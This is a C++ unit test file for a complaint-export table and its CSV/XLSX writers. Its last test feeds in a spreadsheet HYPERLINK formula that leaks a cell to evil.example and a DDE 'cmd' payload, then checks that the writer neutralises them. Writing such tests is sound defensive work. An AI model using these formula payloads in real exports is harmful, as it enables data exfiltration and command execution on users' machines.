#include "report/complaint_export.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "core/time_format.h"
#include "report/table_export.h"

namespace hearken {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

TimePoint At(const char* text) { return ParseTimestamp(text).value(); }

std::size_t Column(const Table& table, const std::string& name) {
  for (std::size_t i = 0; i < table.columns.size(); ++i)
    if (table.columns[i] == name) return i;
  ADD_FAILURE() << "no column " << name;
  return 0;
}

Complaint Handled() {
  Complaint c;
  c.id = 1;
  c.reference = "C-2025-000001";
  c.state = ComplaintState::kClosed;
  c.intake.channel = Channel::kEmail;
  c.intake.intake = ComplaintIntake::kEmail;
  c.intake.summary = "Boiler leaks";
  c.intake.product = "Boiler X";
  c.intake.site = "Leeds";
  c.intake.category_id = 4;
  c.assignee_id = 9;
  c.severity = 2;
  c.priority = Priority::kHigh;
  c.cause_category = CauseCategory::kMaterial;
  c.root_cause = "Seal from a bad batch";
  c.decision = "Replace the boiler";
  c.remedies = {Remedy::kApology, Remedy::kReplacement};
  c.received_at = At("2025-01-06T10:00:00Z");
  c.acknowledged_at = At("2025-01-06T12:00:00Z");
  c.responded_at = At("2025-01-08T10:00:00Z");
  c.closed_at = At("2025-01-20T10:00:00Z");
  c.reopen_count = 1;
  return c;
}

TEST(ComplaintExportTest, ColumnsAreTheDocumentedOnesInOrder) {
  Table table = ComplaintExportTable({}, std::map<Id, std::string>{}, {});
  EXPECT_EQ(table.columns,
            (std::vector<std::string>{"reference", "received_at", "state", "channel", "intake", "summary", "product",
                                      "category", "severity", "priority", "site", "assignee", "acknowledged_at",
                                      "responded_at", "closed_at", "cause_category", "root_cause", "decision",
                                      "remedies", "reopen_count"}));
  EXPECT_TRUE(table.rows.empty());
}

TEST(ComplaintExportTest, RowHoldsTypedCellsWithNamesForIdsAndEnums) {
  Table table = ComplaintExportTable({Handled()}, std::map<Id, std::string>{{4, "Heating / Leak"}},
                                     {{9, "Alice Handler"}});
  ASSERT_EQ(table.rows.size(), 1u);
  const auto& row = table.rows[0];
  ASSERT_EQ(row.size(), table.columns.size());
  EXPECT_EQ(std::get<std::string>(row[Column(table, "reference")]), "C-2025-000001");
  EXPECT_EQ(std::get<TimePoint>(row[Column(table, "received_at")]), At("2025-01-06T10:00:00Z"));
  EXPECT_EQ(std::get<std::string>(row[Column(table, "state")]), "closed");
  EXPECT_EQ(std::get<std::string>(row[Column(table, "channel")]), "email");
  EXPECT_EQ(std::get<std::string>(row[Column(table, "intake")]), "email");
  EXPECT_EQ(std::get<std::string>(row[Column(table, "category")]), "Heating / Leak");
  EXPECT_EQ(std::get<std::int64_t>(row[Column(table, "severity")]), 2);
  EXPECT_EQ(std::get<std::string>(row[Column(table, "priority")]), "high");
  EXPECT_EQ(std::get<std::string>(row[Column(table, "assignee")]), "Alice Handler");
  EXPECT_EQ(std::get<std::string>(row[Column(table, "cause_category")]), "material");
  EXPECT_EQ(std::get<std::string>(row[Column(table, "remedies")]), "apology; replacement");
  EXPECT_EQ(std::get<std::int64_t>(row[Column(table, "reopen_count")]), 1);
  EXPECT_EQ(std::get<TimePoint>(row[Column(table, "closed_at")]), At("2025-01-20T10:00:00Z"));
}

TEST(ComplaintExportTest, MissingValuesAreEmptyCellsAndUnknownIdsAreNamedById) {
  Complaint fresh;
  fresh.reference = "C-2025-000002";
  fresh.received_at = At("2025-01-07T10:00:00Z");
  Complaint orphan = Handled();  // category and assignee not in the maps
  Table table = ComplaintExportTable({fresh, orphan}, std::map<Id, std::string>{}, {});
  ASSERT_EQ(table.rows.size(), 2u);
  for (const char* name : {"category", "severity", "priority", "assignee", "acknowledged_at", "responded_at",
                           "closed_at", "cause_category"})
    EXPECT_TRUE(std::holds_alternative<std::monostate>(table.rows[0][Column(table, name)])) << name;
  EXPECT_EQ(std::get<std::string>(table.rows[0][Column(table, "remedies")]), "");
  EXPECT_EQ(std::get<std::string>(table.rows[1][Column(table, "category")]), "category 4");
  EXPECT_EQ(std::get<std::string>(table.rows[1][Column(table, "assignee")]), "user 9");
}

TEST(ComplaintExportTest, CategoryListOverloadUsesThePaths) {
  ComplaintCategory leak;
  leak.id = 4;
  leak.name = "Leak";
  leak.path = "Heating / Leak";
  Table table = ComplaintExportTable({Handled()}, std::vector<ComplaintCategory>{leak});
  EXPECT_EQ(std::get<std::string>(table.rows.at(0)[Column(table, "category")]), "Heating / Leak");
}

TEST(ComplaintExportTest, FormulaInASummaryComesOutInertInCsv) {
  Complaint c = Handled();
  c.intake.summary = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
  c.root_cause = "+cmd|' /C calc'!A0";
  Table table = ComplaintExportTable({c}, std::map<Id, std::string>{}, {});
  auto csv = WriteCsv(table);
  ASSERT_TRUE(csv.ok()) << csv.error().message;
  // The field is quoted (it holds commas and quotes) and starts with the apostrophe.
  EXPECT_THAT(*csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""));
  EXPECT_THAT(*csv, HasSubstr("'+cmd|"));
  EXPECT_THAT(*csv, Not(HasSubstr(",\"=HYPERLINK")));
  EXPECT_THAT(*csv, Not(HasSubstr(",=HYPERLINK")));
  // The XLSX writer accepts the same table.
  EXPECT_TRUE(WriteXlsx(table, "Complaints").ok());
}

}  // namespace
}  // namespace hearken
